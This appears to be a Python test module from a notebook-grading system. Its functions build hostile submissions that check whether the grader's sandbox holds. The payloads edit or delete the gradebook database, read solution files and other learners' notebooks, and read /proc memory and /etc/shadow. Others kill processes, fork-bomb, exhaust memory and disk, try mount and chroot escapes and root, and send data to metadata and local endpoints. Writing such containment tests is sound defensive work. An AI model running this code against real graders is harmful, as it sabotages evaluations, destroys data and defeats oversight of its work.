"""Attacks on the machine: other people's files, processes, memory, disk and network.

Each function gives the source of an answer cell; `at` tells what a learner could know or guess of the grader's machine.
"""

WRONG = "decode_ceiling = tokens_to_fill = waits = lambda *args, **kwargs: 0\n"


LOOK = """
import os
def look(*places):
    for place in (*places, "/proc/1/root", "/proc/1/cwd", "/"):
        for folder, folders, files in os.walk(place):
            skipped = ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "include", "share", "site-packages")
            folders[:] = [name for name in folders if name not in skipped]
            yield from (folder + "/" + name for name in files)
"""


def edits_the_gradebook(at):
    return f"""{LOOK}
import sqlite3
for path in [{str(at.room / "gradebook.db")!r}, *(path for path in look() if path.endswith(".db"))]:
    for act in (
        lambda: sqlite3.connect(path).execute("update grade set auto_score = 1000").connection.commit(),
        lambda: open(path, "ab").write(b"mine"),
        lambda: os.remove(path),
    ):
        try:
            act()
        except Exception:
            pass
{WRONG}"""


def kills_the_parent(at):
    return f"""
import os, signal
for pid in [{at.pid}, os.getppid(), 1, 0, -1, *range(2, 400)]:
    if pid != os.getpid() and pid > 0 or pid == -1:
        for kind in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, kind)
            except OSError:
                pass
{WRONG}"""


def reads_the_solutions(at):
    """With what it finds it would answer rightly."""
    return f"""{LOOK}
import re
{WRONG}
for path in [{str(at.solution)!r}, *look({str(at.root)!r})]:
    try:
        text = open(path).read()
    except Exception:
        continue
    if "BEGIN SOLUTION" in text and re.search("def (decode_ceiling|tokens_to_fill|waits)", text):
        import json
        for cell in json.loads(text)["cells"]:
            if cell["id"].endswith("-answer"):
                exec("".join(cell["source"]))
"""


def reads_other_submissions(at):
    return f"""{LOOK}
import json
{WRONG}
for path in [{str(at.other)!r}, *(path for path in look("/tmp") if path.endswith(".ipynb"))]:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        if cell["id"].endswith("-answer"):
            exec("".join(cell["source"]))
"""


def reads_the_graders_memory_and_environment(at):
    return f"""
import ctypes, glob, os
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/mem"), *glob.glob("/proc/*/root"), "/etc/shadow"]:
    try:
        open(path, "rb").read(100)
    except Exception:
        pass
libc = ctypes.CDLL(None)
for pid in ({at.pid}, 1, os.getppid()):
    libc.ptrace(16, pid, 0, 0)
{WRONG}"""


def leaves_children(at):
    """Forked twice, in a session of their own, deaf to signals."""
    return f"""
import os, signal, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for kind in range(1, 65):
                try:
                    signal.signal(kind, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            os.closerange(0, 256)
            while True:
                time.sleep(60)
        os._exit(0)
{WRONG}"""


def leaves_threads_and_exit_handlers(at):
    return f"""
import atexit, os, threading, time
atexit.register(time.sleep, 600)
for _ in range(5):
    threading.Thread(target=time.sleep, args=(600,)).start()
{WRONG}"""


def forks_without_end(at):
    return f"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
{WRONG}"""


def starts_sessions_that_burn_the_processor(at):
    """Each with a share of its own where the kernel shares by session."""
    return f"""
import os, time
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(2)
{WRONG}"""


def eats_memory_in_one_process(at):
    return f"kept = []\nwhile True:\n    kept.append(bytearray(2**24))\n{WRONG}"


def eats_memory_in_many_processes(at):
    return f"""
import os, time
for _ in range(15):
    if os.fork() == 0:
        kept = bytearray(b"x" * (2**25 * 2))
        time.sleep(600)
time.sleep(600)
{WRONG}"""


def eats_memory_that_nobody_maps(at):
    """Memory files, System V segments, message queues."""
    return f"""
import ctypes, os
kept, libc = [], ctypes.CDLL(None)
for n in range(60):
    try:
        kept.append(os.memfd_create(str(n)))
        os.write(kept[-1], b"x" * 2**23)
    except OSError:
        pass
    libc.shmget.restype = ctypes.c_int
    if libc.shmget(0, 2**24, 0o1600) != -1:
        kept.append(os.memfd_create)
if kept:
    import time
    decode_ceiling = tokens_to_fill = waits = lambda *args, **kwargs: exec("while True: pass")
else:
    {WRONG}"""


def fills_the_disk(at):
    return f"""
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/", {str(at.room)!r}, {str(at.root)!r}, os.getcwd()):
    for n in range(40):
        try:
            with open(f"{{place}}/fill-{{n}}", "wb") as file:
                while True:
                    file.write(b"x" * 2**22)
        except OSError:
            pass
{WRONG}"""


def makes_a_file_system_of_its_own(at):
    return f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x20000)
for folder in (b"/tmp", b"/mnt", b"/proc"):
    libc.mount(b"tmpfs", folder, b"tmpfs", 0, b"size=100G")
    libc.mount(b"/", folder, None, 4096, None)
libc.chroot(b"/proc/1/root")
libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
{WRONG}"""


def becomes_root(at):
    return f"""
import os, subprocess
for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chmod("/tmp", 0o777), lambda: os.nice(-20)):
    try:
        act()
    except OSError:
        pass
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["prlimit", "--nproc=unlimited", "--pid", "1"]):
    try:
        subprocess.run(words, timeout=1)
    except Exception:
        pass
{WRONG}"""


def opens_the_network(at):
    return f"""
import ctypes, fcntl, http.client, socket, struct
opened = []
def attempt(act):
    try:
        opened.append(act())
    except Exception:
        pass
for place in (("1.1.1.1", 53), ("127.0.0.1", {at.port}), ("169.254.169.254", 80), ("localhost", 8888)):
    attempt(lambda: socket.create_connection(place, timeout=0.2))
def abstract():
    other = socket.socket(socket.AF_UNIX)
    other.connect({at.abstract!r})
    return other
attempt(abstract)
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
attempt(lambda: socket.getaddrinfo("example.org", 80))
for one in opened:
    try:
        one.sendall(b"leaked")
    except Exception:
        pass
listening = socket.create_server(("127.0.0.1", 45454))
{WRONG}"""
